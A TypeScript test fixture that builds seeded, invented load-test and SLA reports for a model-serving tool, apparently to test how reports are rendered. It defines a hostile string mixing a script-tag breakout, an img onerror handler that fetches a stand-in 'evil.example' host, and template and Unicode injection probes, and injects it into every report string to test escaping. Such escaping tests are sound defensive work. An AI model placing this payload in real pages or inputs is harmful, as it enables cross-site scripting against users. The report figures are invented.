// Reports as a load test and a service would write them, made from a seed: what is shown is invented, its form is not.
import type { Explanation } from '../../../src/flight/types.js'
import {
  type LatencySummary,
  PROFILE_SCHEMA,
  type ProfileReport,
  type ProfileRun,
  type SeriesPoint,
} from '../../../src/profile/report-types.js'
import type { Stage, StageSummaries, StageSummary } from '../../../src/runtime/stats.js'
import { type Objective, SLA_SCHEMA, type SlaReport } from '../../../src/sla/types.js'

/** What an attacker, or an unlucky user, calls a model. */
export const HOSTILE = '</script><img src=x onerror="fetch(\'http://evil.example\')"><!--\u202e"\'`&{{7*7}}'

const START = Date.UTC(2026, 10, 27, 9, 30)
const STAGE_MEANS: Readonly<Record<Stage, number>> = {
  inbox: 3,
  queue: 420,
  prepare: 12,
  compute: 880,
  publish: 6,
  wake: 40,
  resolve: 9,
  total: 1361,
}

export function seeded(seed: number): () => number {
  let state = seed >>> 0
  return () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0
    return state / 2 ** 32
  }
}

const summary = (mean: number): StageSummary => ({
  count: 60_000,
  mean,
  p50: mean * 0.9,
  p95: mean * 1.9,
  p99: mean * 3.2,
  p999: mean * 7,
  max: mean * 15,
})

export const stages = (): StageSummaries =>
  Object.fromEntries(Object.entries(STAGE_MEANS).map(([name, mean]) => [name, summary(mean)])) as StageSummaries

function latency(count: number, mean: number): LatencySummary {
  const at = (us: number, width: number): LatencySummary['p50'] => ({
    value: us,
    low: us * (1 - width),
    high: us * (1 + width * 1.3),
  })
  const p999: LatencySummary['p999'] = count >= 20_000 ? at(mean * 7.2, 0.13) : { needs: 20_000 - count }
  return {
    count,
    mean,
    max: mean * 15,
    p50: at(mean * 0.92, 0.008),
    p90: at(mean * 1.6, 0.012),
    p95: at(mean * 1.95, 0.02),
    p99: at(mean * 3.3, 0.05),
    p999,
  }
}

function curve(mean: number): ProfileRun['curve'] {
  const percentiles = Array.from({ length: 81 }, (_, i) => 100 * (1 - 10 ** (-i / 20)))
  const points = percentiles.map((percentile) => ({
    percentile,
    us: mean * (0.6 + 0.9 * (-Math.log10(1 - percentile / 100)) ** 1.6),
  }))
  return [...points, { percentile: 100, us: mean * 15 }]
}

export function series(points: number, mean: number, rate: number, random: () => number): SeriesPoint[] {
  return Array.from({ length: points }, (_, at) => {
    const stall = random() < 0.02 ? 6 + 10 * random() : 1
    const noise = 0.9 + 0.2 * random()
    const bad = stall > 8 ? Math.round(rate * 0.02) : 0
    const sent = Math.round(rate * (0.97 + 0.06 * random()))
    return {
      at,
      seconds: 1,
      sent,
      succeeded: sent - bad,
      bad,
      p50: mean * 0.92 * noise,
      p99: mean * 3 * noise * stall,
      max: mean * 7 * noise * stall,
    }
  })
}

/** A run of an open loop; `change` replaces parts of it. */
export function run(
  change: Partial<ProfileRun> & { mean?: number; rate?: number; points?: number; seed?: number } = {},
): ProfileRun {
  const { mean = 1370, rate = 2000, points = 60, seed = 1, ...rest } = change
  const sent = Math.round(rate * points)
  const requests = { sent, succeeded: sent - 70, failed: 12, refused: 30, expired: 25, aborted: 3 }
  return {
    label: `Poisson ${rate}/s`,
    load: { kind: 'poisson', rate, seed },
    startedAt: START,
    seconds: points,
    warmup: {
      seconds: 3,
      requests: 3 * rate,
      steady: true,
      how: 'the medians of the last five half seconds agreed within 5 %',
    },
    requests,
    errors: { ENGINE_FAILED: 12, QUEUE_FULL: 30, DEADLINE_EXCEEDED: 25 },
    firstError: 'ENGINE_FAILED: node 12 (MatMul): the input has a dimension of 0',
    throughput: requests.succeeded / points,
    goodput: (requests.succeeded * 0.993) / points,
    goodWithinUs: 10_000,
    schedule: {
      kept: true,
      boundUs: 1000,
      late: 0.0004,
      allowed: 0.01,
      latenessUs: { ...latency(sent, 40), p999: { value: 700, low: 600, high: 820 } },
    },
    latencyUs: latency(requests.succeeded, mean),
    serviceUs: latency(requests.succeeded, mean * 0.95),
    curve: curve(mean),
    series: series(points, mean, rate, seeded(seed)),
    stagesUs: stages(),
    batches: {
      count: 31_000,
      meanSize: 3.84,
      byReason: { full: 120, preferred: 4000, delay: 19_000, deadline: 300, idle: 7580 },
    },
    cpuUsPerRequest: 312,
    ...rest,
  }
}

export function invalidRun(rate = 40_000): ProfileRun {
  const made = run({ rate, mean: 42_000 })
  return {
    ...made,
    schedule: {
      ...(made.schedule as NonNullable<ProfileRun['schedule']>),
      kept: false,
      late: 0.31,
      reason: '31 % of the requests left more than 1 ms after their time; 1 % are allowed',
    },
  }
}

export function profileReport(change: Partial<ProfileReport> = {}): ProfileReport {
  return {
    schema: PROFILE_SCHEMA,
    at: START + 70_000,
    machine: { cpu: 'AMD EPYC 7763', cpus: 2, memoryGiB: 24, os: 'Linux 6.18 x64', node: 'v20.20.2', subten: '0.1.0' },
    target: { kind: 'in-process', model: 'digits', version: '1', engine: 'onnxruntime 1.30.0' },
    seed: 1,
    runs: [run()],
    notes: [
      'The load comes from the thread that gets the answers, on a machine with 2 CPUs: its own work is part of the figures.',
    ],
    ...change,
  }
}

/** Everything that a report can hold. */
export function fullReport(): ProfileReport {
  const rates = [500, 1000, 2000, 3000, 4000, 4500, 4800]
  const difference = (
    what: string,
    unit: string,
    before: number,
    value: number,
    width: number,
    real: boolean,
    verdict: 'slower' | 'faster' | 'higher' | 'lower' | 'same' | 'unclear',
  ) => ({
    what,
    unit,
    before,
    after: before * value,
    ratio: { value, low: value * (1 - width), high: value * (1 + width) },
    real,
    verdict,
  })
  return profileReport({
    runs: [
      ...rates.map((rate, i) => run({ rate, mean: 900 + 400 / (1.02 - rate / 5000), seed: i + 1 })),
      invalidRun(5000),
    ],
    search: {
      percentile: 'p99',
      limitUs: 10_000,
      rate: 4310,
      low: 4220,
      high: 4390,
      steps: [1000, 2000, 4000, 8000, 6000, 5000, 4500, 4250, 4375, 4312].flatMap((rate) =>
        [1, 2, 3].map((repeat) => {
          const us = rate < 5500 ? 1200 + 900 / (1.02 - rate / 5100) + repeat * 120 : 240_000
          return {
            rate,
            repeat,
            us,
            ok: us <= 10_000,
            ...(rate === 8000 ? { why: 'the generator did not keep its schedule' } : {}),
          }
        }),
      ),
    },
    mlperf: {
      scenario: 'server',
      valid: false,
      checks: [
        { rule: 'at least 600 s', ok: false, detail: 'ran for 60 s' },
        { rule: 'at least 270,336 queries', ok: false, detail: '120,041 queries; 150,295 more' },
        { rule: 'p99 within 10 ms', ok: true, detail: '4.5 ms with the bound of early stopping' },
      ],
      metric: { name: 'scheduled samples a second', value: 4310, unit: 'samples/s' },
    },
    comparison: {
      how: 'interleaved',
      before: '../subten-0.1.0',
      after: '.',
      rounds: 31,
      confidence: 0.999,
      differences: [
        difference('throughput', '1/s', 4250, 0.91, 0.02, true, 'slower'),
        difference('p50', 'µs', 214, 1.102, 0.014, true, 'slower'),
        difference('p95', 'µs', 290, 1.08, 0.12, false, 'unclear'),
        difference('p99', 'µs', 460, 1.4, 0.9, false, 'unclear'),
        difference('CPU time a request', 'µs', 205, 1.004, 0.02, false, 'same'),
      ],
      notes: ['Poisson 5000/s: the generator did not keep its schedule (after); such figures are left out.'],
    },
    verdict: [
      {
        objective: 'digits-p99',
        promise: '99 % of requests within 10 ms, measured at engine, over 28 days',
        delivered: '99.31 % within 10 ms',
        ok: true,
      },
      {
        objective: 'digits-availability',
        promise: '99.9 % of requests answered, measured at edge, over 28 days',
        delivered: '99.86 % answered',
        ok: false,
      },
      {
        objective: 'digits-accuracy',
        promise: '97 % of labelled answers right, over 28 days',
        delivered: '–',
        ok: false,
        unknown: 'a load test sees no labels',
      },
    ],
    notes: ['With 2 CPUs the generator and the model share processors.', 'Triton was not asked for its stages.'],
  })
}

function objective(name: string, change: Partial<Objective> = {}): Objective {
  return {
    name,
    description: 'Answers to people who wait in front of a form.',
    service: 'vision-api',
    owner: 'team-vision@example.com',
    indicator: { kind: 'latency', model: 'digits', point: 'engine', thresholdUs: 10_000 },
    target: 0.99,
    window: { kind: 'rolling', ms: 28 * 86_400_000 },
    minimumEvents: 100,
    alerts: [],
    consequences: 'Deploys stop until the budget is positive again; 5 % of the monthly fee is paid back.',
    enforce: true,
    source: { file: 'contracts/digits.yaml', line: 14 },
    ...change,
  }
}

export const HOUR = 3_600_000

function status(
  name: string,
  state: 'met' | 'at-risk' | 'broken' | 'too-few',
  badShare: number,
  points: number,
  change: Partial<Objective> = {},
): SlaReport['objectives'][number] {
  const random = seeded(name.length)
  const target = change.target ?? 0.99
  const history = Array.from({ length: points }, (_, i) => {
    const total = Math.round(40_000 * (0.6 + 0.5 * Math.sin((i / 24) * 2 * Math.PI) ** 2))
    const incident = state !== 'met' && i > points * 0.7 && i < points * 0.74 ? 12 : 1
    return {
      at: START - (points - i) * HOUR,
      good: Math.round(total * (1 - Math.min(1, badShare * incident * (0.4 + 1.2 * random())))),
      total,
    }
  })
  const events = history.reduce(
    (sum, { good, total }) => ({ good: sum.good + good, total: sum.total + total, excluded: sum.excluded + 3 }),
    { good: 0, total: 0, excluded: 0 },
  )
  const share = events.total > 0 ? events.good / events.total : 0
  const burn = badShare / (1 - target)
  const alert = (severity: 'page' | 'ticket', burnRate: number, longMs: number, shortMs: number, firing: boolean) => ({
    policy: severity === 'page' ? 'fast-burn' : 'slow-burn',
    severity,
    burnRate,
    longMs,
    shortMs,
    longBurn: firing ? burnRate * 1.2 : burn,
    shortBurn: firing ? burnRate * 1.6 : burn * 0.8,
    firing,
    ...(firing ? { since: START - HOUR } : {}),
  })
  const firing = state === 'broken'
  return {
    objective: objective(name, change),
    events,
    ...(state === 'too-few' ? {} : { compliance: share, budgetLeft: 1 - (1 - share) / (1 - target) }),
    burn:
      state === 'too-few'
        ? {}
        : {
            300000: firing ? 23 : burn,
            1800000: firing ? 9.6 : burn,
            3600000: firing ? 17.3 : burn,
            21600000: firing ? 4.2 : burn,
            259200000: burn,
          },
    alerts: [
      alert('page', 14.4, HOUR, 300_000, firing),
      alert('page', 6, 6 * HOUR, 1_800_000, false),
      alert('ticket', 1, 72 * HOUR, 6 * HOUR, firing),
    ],
    state,
    promise: '99 % of requests within 10 ms, measured at engine, over 28 days',
    delivered: state === 'too-few' ? '12 events, too few to say' : `${(100 * share).toFixed(2)} % within 10 ms`,
    history,
  }
}

export function explanation(i: number, change: Partial<Explanation> = {}): Explanation {
  const totalMs = 46 / (1 + i * 0.18)
  const gc = totalMs * 0.53
  const queue = totalMs * 0.28
  const compute = totalMs - gc - queue
  return {
    id: i % 4 === 3 ? '' : `order-${81_234 + i}`,
    model: 'digits',
    version: '1',
    at: START - i * 61_000,
    totalMs,
    outcome: i % 9 === 8 ? 'expired' : 'succeeded',
    stages: { inbox: 0.02, queue, prepare: 0.05, compute, publish: 0.02, wake: gc - 0.1, resolve: 0.01 },
    batch: {
      number: 812 + i,
      rows: 16,
      requests: 14,
      reason: 'delay',
      mates: ['order-81001', 'order-81002', 'order-81007'],
    },
    causes: [
      { kind: 'gc', ms: gc, detail: 'garbage collection (mark-sweep)' },
      { kind: 'queue', ms: queue, detail: `behind batch ${811 + i} (waited for deadline)` },
      { kind: 'compute', ms: compute, detail: 'computing' },
    ],
    text: `${totalMs.toFixed(1)} ms: ${gc.toFixed(1)} garbage collection, ${queue.toFixed(1)} behind batch ${811 + i} (waited for deadline), ${compute.toFixed(1)} compute`,
    ...change,
  }
}

export function slaReport(change: Partial<SlaReport> = {}): SlaReport {
  return {
    schema: SLA_SCHEMA,
    at: START,
    since: START - 28 * 24 * HOUR,
    contract: 'contracts/digits.yaml',
    objectives: [
      status('digits-p99', 'broken', 0.008, 672),
      status('digits-availability', 'met', 0.0003, 672, {
        target: 0.999,
        indicator: { kind: 'availability', model: 'digits', point: 'edge' },
      }),
      status('digits-accuracy', 'too-few', 0, 0, { indicator: { kind: 'accuracy', model: 'digits' }, enforce: false }),
    ],
    models: [
      {
        model: 'digits',
        version: '1',
        engine: 'onnxruntime 1.30.0',
        stagesUs: stages(),
        blame: 'wake has 61 % of the time over 10 ms: garbage collection stopped the thread that takes the answers.',
        causes: [
          { kind: 'gc', ms: 8120, requests: 512 },
          { kind: 'queue', ms: 3990, requests: 430 },
          { kind: 'compute', ms: 1900, requests: 611 },
          { kind: 'batching-delay', ms: 720, requests: 240 },
          { kind: 'unexplained', ms: 310, requests: 92 },
        ],
        slow: Array.from({ length: 24 }, (_, i) => explanation(i)),
      },
    ],
    ...change,
  }
}

/** A report in which every string is hostile. */
export function withHostileStrings<T>(value: T): T {
  const keep = new Set([
    'kind',
    'schema',
    'severity',
    'state',
    'outcome',
    'verdict',
    'how',
    'scenario',
    'unit',
    'reason',
    'point',
  ])
  const walk = (each: unknown, key: string): unknown => {
    if (typeof each === 'string') return keep.has(key) ? each : `${HOSTILE}${each}`
    if (Array.isArray(each)) return each.map((item) => walk(item, key))
    if (typeof each !== 'object' || each === null) return each
    const renamed = key === 'errors'
    return Object.fromEntries(
      Object.entries(each).map(([name, item]) => [renamed ? `${HOSTILE}${name}` : name, walk(item, name)]),
    )
  }
  return walk(value, '') as T
}
